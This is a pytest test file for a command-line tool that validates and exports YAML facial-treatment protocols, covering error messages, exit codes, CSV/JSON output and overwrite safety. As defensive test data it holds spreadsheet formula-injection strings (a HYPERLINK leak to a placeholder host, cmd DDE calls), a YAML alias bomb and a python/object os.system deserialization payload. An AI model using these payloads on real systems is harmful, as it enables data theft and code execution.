"""The protocol-tools command line: messages, exit codes, never a traceback."""

from __future__ import annotations

import csv
import io
import json
import math
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from helpers import template_text, three_mistakes
from protocol_tools import load_protocol, protocol_json_schema, validate
from protocol_tools.cli import main
from protocol_tools.core.text import minutes

ROOT = Path(__file__).resolve().parents[1]


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "demo-lift.yaml").write_text(template_text())
    return tmp_path


def test_validate_clean_folder(capsys, folder: Path):
    code, out, _ = run(capsys, "validate", str(folder))
    assert code == 0
    assert "1 file checked: 0 errors, 0 warnings" in out


def test_validate_reports_file_line_field_and_exits_1(capsys, folder: Path):
    bad = folder / "demo-lift.yaml"
    bad.write_text(template_text().replace("seconds: 75", "seconds: -30", 1))
    code, out, _ = run(capsys, "validate", str(bad))
    assert code == 1
    assert f"{bad}:25:14 steps[2].seconds: must be more than 0 (got -30)" in out


def test_validate_lists_every_independent_error_of_a_file(capsys, folder: Path):
    text = three_mistakes()
    path = folder / "demo-lift.yaml"
    path.write_text(text)
    lines = text.splitlines()

    def at(line_text: str, value: str) -> str:
        line = lines.index(line_text)
        return f"{path}:{line + 1}:{lines[line].index(value) + 1}"

    code, out, _ = run(capsys, "validate", str(path))
    assert code == 1
    assert out.splitlines() == [
        f"{at('    seconds: -30', '-30')} steps[2].seconds: must be more than 0 (got -30) "
        "[error: not-positive]",
        f"{at('  - zone: cheek bones', 'cheek')} steps[4].zone: unknown zone 'cheek bones'; "
        "did you mean 'cheekbones'? [error: unknown-choice]",
        f"{at('    current_uA: 1500', '1500')} steps[6].current_uA: 1500 µA is not "
        "microcurrent (it must stay below 1000 µA) [error: not-microcurrent]",
        "1 file checked: 3 errors, 0 warnings",
    ]


# The README's example file: a protocol whose right half is written one step per
# line, with two mistakes (the README's validate example shows its output).
README_LIFT_20 = """\
# yaml-language-server: $schema=schema/protocol.schema.json
format: 1
id: lift-20
name: Lift 20
version: 1.0.0
setting: clinic
summary: A twenty-minute lift; the right half is written one step per line.
defaults: {current_uA: 200, frequency_hz: 0.5}
steps:
  - {kind: prep, action: Cleanse the face and apply a thin layer of gel, seconds: 120}
  - {zone: jawline, side: right, technique: glide, passes: 3, seconds: 120}
  - {zone: cheekbones, side: right, technique: glide, passes: 3, seconds: 120}
  - {zone: under-eyes, side: right, technique: glide, passes: 3, current_uA: 150, seconds:
    -30}

  # Client's left half. If the gel has dried on this side, mist it first:
  # a dry probe drags and the current stops reaching the skin. Then do the
  # same work as on the right, in the same order, so both halves get the
  # same time.
  - zone: jaw line
    side: left
    technique: glide
    passes: 3
    seconds: 120
  - zone: cheekbones
    side: left
    technique: glide
    passes: 3
    seconds: 120
  - zone: under-eyes
    side: left
    technique: glide
    passes: 3
    current_uA: 150
    seconds: 120
  - kind: closing
    action: Remove the gel with a damp cloth and apply a hydrating serum
    seconds: 120
"""


def readme_console(command: str) -> list[str]:
    """What the README's console example shows ``command`` printing."""
    lines = (ROOT / "README.md").read_text(encoding="utf-8").splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(f"$ {command} "))
    shown = []
    for line in lines[start + 1 :]:
        if line.startswith(("$ ", "```")):
            break
        shown.append(line)
    return shown


def test_the_readme_validate_example_prints_what_the_readme_shows(
    capsys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    (tmp_path / "protocols").mkdir()
    (tmp_path / "protocols" / "lift-20.yaml").write_text(README_LIFT_20, encoding="utf-8")
    shutil.copy(ROOT / "protocols" / "express-10.yaml", tmp_path / "protocols")
    monkeypatch.chdir(tmp_path)
    code, out, _ = run(capsys, "validate", "protocols/")
    assert code == 1
    assert out.splitlines() == readme_console("protocol-tools validate protocols/")
    assert len(out.splitlines()) == 3


def test_warnings_pass_unless_strict(capsys, folder: Path):
    path = folder / "demo-lift.yaml"
    path.write_text(template_text().replace("target_minutes: 10", "target_minutes: 14"))
    code, out, _ = run(capsys, "validate", str(path))
    assert code == 0
    assert "target-mismatch" in out
    code, _, _ = run(capsys, "validate", "--strict", str(path))
    assert code == 1


def test_json_output(capsys, folder: Path):
    (folder / "other.yaml").write_text("id: [\n")
    code, out, _ = run(capsys, "validate", "--format", "json", str(folder))
    payload = json.loads(out)
    assert code == 1
    assert payload["valid"] is False
    assert payload["errors"] == 1
    (finding,) = payload["files"][str(folder / "other.yaml")]
    assert finding["code"] == "yaml-syntax"
    assert finding["line"] == 2
    assert finding["explanation"]
    assert finding["source"]
    assert payload["files"][str(folder / "demo-lift.yaml")] == []


def test_missing_path_and_empty_folder(capsys, tmp_path: Path):
    code, _, err = run(capsys, "validate", str(tmp_path / "nope"))
    assert code == 1
    assert "no such file" in err
    code, _, err = run(capsys, "validate", str(tmp_path))
    assert code == 1
    assert "no protocol files" in err


def test_usage_errors_exit_2(capsys):
    with pytest.raises(SystemExit) as caught:
        main(["validate"])
    assert caught.value.code == 2
    with pytest.raises(SystemExit) as caught:
        main(["no-such-command"])
    assert caught.value.code == 2


def test_show_prints_the_timeline_and_totals(capsys, folder: Path):
    code, out, _ = run(capsys, "show", "demo-lift", "--library", str(folder))
    assert code == 0
    assert "step" in out
    assert "technique" in out
    assert "start" in out
    assert "end" in out
    assert "jawline" in out
    assert "2:30  (right 1:15, left 1:15)" in out
    assert "Total device time: 10:00" in out


def test_show_csv_and_json(capsys, folder: Path):
    code, out, _ = run(capsys, "show", str(folder / "demo-lift.yaml"), "--format", "csv")
    assert code == 0
    assert out.splitlines()[0].startswith("step,kind,zone")
    code, out, _ = run(capsys, "show", str(folder / "demo-lift.yaml"), "--format", "json")
    rows = json.loads(out)
    assert rows[-1]["end_s"] == 14 * 60


# Text a spreadsheet would run as a formula, each dangerous first character once,
# and line breaks that would start a row of their own.
HOSTILE_TEXT = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "fine\r=cmd|' /C calc'!A0",
    "two\nlines",
    "windows\r\n=1+1",
]


def hostile_protocol(folder: Path) -> Path:
    data = YAML(typ="safe", pure=True).load(template_text())
    steps = data["steps"]
    treatments = [step for step in steps if "zone" in step]
    actions = [step for step in steps if "action" in step]
    for index, text in enumerate(HOSTILE_TEXT):
        steps[index]["cue"] = text
        treatments[index % len(treatments)]["direction"] = text
        actions[index % len(actions)]["action"] = text
    stream = io.StringIO()
    YAML(typ="safe", pure=True).dump(data, stream)
    path = folder / "demo-lift.yaml"
    path.write_text(stream.getvalue(), encoding="utf-8")
    return path


def test_show_csv_never_lets_a_formula_or_a_line_break_into_a_cell(capsys, tmp_path: Path):
    path = hostile_protocol(tmp_path)
    protocol = load_protocol(path)
    assert {step.cue for step in protocol.steps} >= set(HOSTILE_TEXT)
    code, out, _ = run(capsys, "show", str(path), "--format", "csv")
    assert code == 0
    header, *rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) == len(protocol.steps)
    assert [row[0] for row in rows] == [str(n) for n in range(1, len(protocol.steps) + 1)]
    for row in [header, *rows]:
        assert len(row) == len(header)
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
            assert not {"\n", "\r"} & set(cell), row
    cues = [row[header.index("cue")] for row in rows]
    assert cues[0] == "'" + HOSTILE_TEXT[0]  # kept as text, not dropped
    assert cues[6] == "fine =cmd|' /C calc'!A0"


def test_show_and_sheet_never_crash_on_huge_seconds(capsys, folder: Path):
    bad = folder / "demo-lift.yaml"
    bad.write_text(template_text().replace("seconds: 75", "seconds: 1e308", 1))
    code, out, _ = run(capsys, "validate", str(bad))
    assert code == 1
    assert "steps[2].seconds" in out
    for command in (["show", str(bad)], ["sheet", str(bad), "-o", str(folder / "x.pdf")]):
        code, _, err = run(capsys, *command)
        assert code == 1
        assert "steps[2].seconds" in err
        assert "Traceback" not in err
    assert not (folder / "x.pdf").exists()


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [
        (0, "0:00"),
        (59.6, "1:00"),
        (905, "15:05"),
        (-61, "-1:01"),
        (math.inf, "?:??"),
        (math.nan, "?:??"),
    ],
)
def test_minutes_never_crash(seconds, shown):
    assert minutes(seconds) == shown


def test_show_unknown_id_suggests(capsys, folder: Path):
    code, _, err = run(capsys, "show", "demo-lif", "--library", str(folder))
    assert code == 1
    assert "did you mean 'demo-lift'" in err


def test_new_writes_a_valid_protocol_and_refuses_to_overwrite(capsys, tmp_path: Path):
    target = tmp_path / "my-lift.yaml"
    code, out, _ = run(capsys, "new", "my-lift", "--name", 'Zoë\'s "lift": #1', "-o", str(target))
    assert code == 0
    assert str(target) in out
    protocol = load_protocol(target)
    assert protocol.id == "my-lift"
    assert protocol.name == 'Zoë\'s "lift": #1'
    assert validate(protocol) == []
    assert target.read_text().startswith("# yaml-language-server: $schema=")
    code, _, err = run(capsys, "new", "my-lift", "-o", str(target))
    assert code == 1
    assert "already exists" in err


def test_new_refuses_an_id_another_file_holds(capsys, tmp_path: Path):
    (tmp_path / "other-name.yaml").write_text(template_text("my-lift"))
    code, _, err = run(capsys, "new", "my-lift", "-o", str(tmp_path / "my-lift.yaml"))
    assert code == 1
    assert "already exists" in err
    assert "other-name.yaml" in err
    assert not (tmp_path / "my-lift.yaml").exists()


def test_new_never_replaces_a_file_saved_meanwhile(capsys, tmp_path: Path, monkeypatch):
    import os

    target = tmp_path / "my-lift.yaml"
    real_link = os.link

    def someone_else_first(source, destination):
        # A designer saves the same file between the check and the write.
        Path(destination).write_text("theirs", encoding="utf-8")
        real_link(source, destination)

    monkeypatch.setattr(os, "link", someone_else_first)
    code, _, err = run(capsys, "new", "my-lift", "-o", str(target))
    assert code == 1
    assert "already exists" in err
    assert target.read_text(encoding="utf-8") == "theirs"


def test_new_takes_the_designers_save_lock(capsys, tmp_path: Path):
    from protocol_tools.protocols.folder import SAVE_LOCK_NAME

    code, _, _ = run(capsys, "new", "my-lift", "-o", str(tmp_path / "my-lift.yaml"))
    assert code == 0
    assert (tmp_path / SAVE_LOCK_NAME).is_file()


def test_new_with_force_replaces_the_file(capsys, tmp_path: Path):
    target = tmp_path / "my-lift.yaml"
    target.write_text("old", encoding="utf-8")
    code, _, _ = run(capsys, "new", "my-lift", "-o", str(target), "--force")
    assert code == 0
    assert load_protocol(target).id == "my-lift"


def test_schema_never_replaces_a_file_without_force(capsys, tmp_path: Path):
    protocol = tmp_path / "express-10.yaml"
    shutil.copy(ROOT / "protocols" / "express-10.yaml", protocol)
    before = protocol.read_bytes()
    code, _, err = run(capsys, "schema", "-o", str(protocol))
    assert code == 1
    assert "already exists" in err
    assert "--force" in err
    assert protocol.read_bytes() == before
    code, _, _ = run(capsys, "schema", "-o", str(protocol), "--force")
    assert code == 0
    assert json.loads(protocol.read_text()) == protocol_json_schema()


def test_schema_writes_a_new_file(capsys, tmp_path: Path):
    target = tmp_path / "schema.json"
    code, out, _ = run(capsys, "schema", "-o", str(target))
    assert code == 0
    assert str(target) in out
    assert json.loads(target.read_text()) == protocol_json_schema()


def test_new_refuses_a_bad_id(capsys, tmp_path: Path):
    code, _, err = run(capsys, "new", "My Lift", "-o", str(tmp_path / "x.yaml"))
    assert code == 2
    assert "not a valid id" in err


def test_schema_matches_the_committed_copy(capsys):
    code, out, _ = run(capsys, "schema")
    assert code == 0
    committed = ROOT / "protocols" / "schema" / "protocol.schema.json"
    assert json.loads(out) == json.loads(committed.read_text()), "run `make schema`"
    assert json.loads(out) == protocol_json_schema()


def test_every_library_file_names_the_schema():
    for path in (ROOT / "protocols").glob("*.yaml"):
        first = path.read_text().splitlines()[0]
        assert first == "# yaml-language-server: $schema=schema/protocol.schema.json", path


@pytest.mark.parametrize(
    "content",
    [
        b"a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
        b"c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
        b"e: [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\n",
        b"\xff\xd8\xff\xe0 binary",
        b"id: !!python/object/apply:os.system ['echo pwned']\n",
        b"[" * 10_000,
        b"name: \t\tx\n\tsteps: 1\n",
        "id: é\n".encode("utf-16"),
    ],
)
def test_hostile_files_never_give_a_traceback(tmp_path: Path, content: bytes):
    path = tmp_path / "hostile.yaml"
    path.write_bytes(content)
    result = subprocess.run(
        [sys.executable, "-m", "protocol_tools", "validate", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stderr + result.stdout
    assert f"{path}:" in result.stdout
    assert not (tmp_path / "pwned").exists()


def test_validate_keeps_pandas_and_plotly_out():
    code = (
        "import sys; from protocol_tools.cli import main; "
        f"main(['validate', {str(ROOT / 'protocols')!r}]); "
        "heavy = [m for m in ('pandas', 'plotly', 'ipywidgets') if m in sys.modules]; "
        "print('HEAVY', heavy)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True
    )
    assert "HEAVY []" in result.stdout


def test_text_helpers_examples_run():
    import doctest

    from protocol_tools.core import text as _text

    result = doctest.testmod(_text)
    assert result.attempted > 0
    assert result.failed == 0


def test_validate_of_a_clean_library_needs_no_pydantic_nor_any_feature():
    # The second run reads the checked reference data from its snapshot (issue 14).
    code = (
        "import sys; from protocol_tools.cli import main; "
        f"main(['validate', {str(ROOT / 'protocols')!r}]); "
        "print('LOADED', sorted(m for m in sys.modules if m.split('.')[0] in "
        "('pydantic', 'pandas', 'plotly', 'difflib', 'shutil', 'dataclasses') "
        "or m.split('.')[:2] in "
        "[['protocol_tools', f] for f in ('screening', 'sheets', 'designer', 'records', "
        "'series', 'session', 'training', 'views')]))"
    )
    for _ in range(2):
        result = subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=True
        )
    assert "LOADED []" in result.stdout, result.stdout


def parsed(capsys, argv: list[str], parser) -> tuple[object, str, str]:
    try:
        outcome = vars(parser.parse_args(argv))
    except SystemExit as caught:
        outcome = caught.code
    out, err = capsys.readouterr()
    return outcome, out, err


@pytest.mark.parametrize(
    "argv",
    [
        ["validate"],
        ["validate", "--help"],
        ["validate", "x.yaml", "--bogus"],
        ["validate", "--format", "xml", "x.yaml"],
        ["validate", "--strict", "--format", "json", "a.yaml", "b.yaml"],
        ["show", "express-10", "--format", "csv"],
        ["show"],
        ["new", "my-lift", "-o", "x.yaml", "--force"],
        ["schema", "--help"],
    ],
)
def test_a_core_commands_own_parser_answers_as_the_whole_parser(capsys, argv):
    # main() makes only the parser of the core command it runs: the same outcome, the
    # same usage and error text as the parser of every command.
    from protocol_tools.cli import build_parser

    whole = parsed(capsys, argv, build_parser())
    alone = parsed(capsys, argv, build_parser(with_features=False, only=argv[0]))
    assert alone == whole


def test_help_before_a_command_lists_every_command(capsys):
    with pytest.raises(SystemExit):
        main(["--help", "validate"])
    out = capsys.readouterr().out
    assert "validate" in out
    assert "schema" in out


def test_a_clean_runs_count_is_what_summarize_counts():
    from protocol_tools.core.findings import summarize
    from protocol_tools.protocols.cli import _counts

    assert _counts([]) == summarize([])
